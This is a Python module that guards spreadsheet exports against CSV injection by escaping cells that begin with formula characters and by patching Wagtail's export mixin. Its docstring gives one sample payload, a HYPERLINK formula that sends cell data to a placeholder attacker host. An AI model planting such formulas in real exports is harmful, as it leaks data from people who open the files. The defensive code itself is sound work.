"""Spreadsheet cells that cannot run: every CSV and XLSX we write goes through ``escape_formula``.

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, after a tab
or carriage return, the same) as a formula, so a product name or page title such as
``=HYPERLINK("http://evil.example/?"&A1)`` would leak data or run commands on the reader's computer
(CSV injection). Such a cell is written with an apostrophe in front, which spreadsheets read as
"this is text". ``unescape_formula`` takes that apostrophe off again when our own export comes back
through an import, so a round trip gives the text that was exported: ``unescape(escape(x)) == x``
for every string (a text that itself starts with apostrophes before a formula character gets one
more, and loses exactly one).

Our own exports call ``escape_formula`` per cell (``programme.exports``, ``marketplace.imports``);
Wagtail's (reports such as site history and aging pages, form submissions, listings) all go
through ``SpreadsheetExportMixin.preprocess_field_value``, which ``protect_exports`` wraps once at
start-up (``PrivacyConfig.ready``).
"""

from functools import wraps

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _needs_quote(text: str) -> bool:
    stripped = text.lstrip("'")
    return stripped.startswith(FORMULA_START)


def escape_formula(value):
    """The value with an apostrophe in front when a spreadsheet would run it; others unchanged."""
    if isinstance(value, str) and _needs_quote(value):
        return "'" + value
    return value


def unescape_formula(text: str) -> str:
    """Undoes ``escape_formula`` on a cell read back from a file."""
    if text.startswith("'") and _needs_quote(text[1:]):
        return text[1:]
    return text


def protect_exports(mixin: type) -> None:
    """Makes every export of a spreadsheet mixin (Wagtail's) escape its cells, CSV and XLSX."""
    original = mixin.preprocess_field_value
    if getattr(original, "escapes_formulas", False):
        return

    @wraps(original)
    def preprocess_field_value(self, field, value, export_format):
        return escape_formula(original(self, field, value, export_format))

    preprocess_field_value.escapes_formulas = True
    mixin.preprocess_field_value = preprocess_field_value
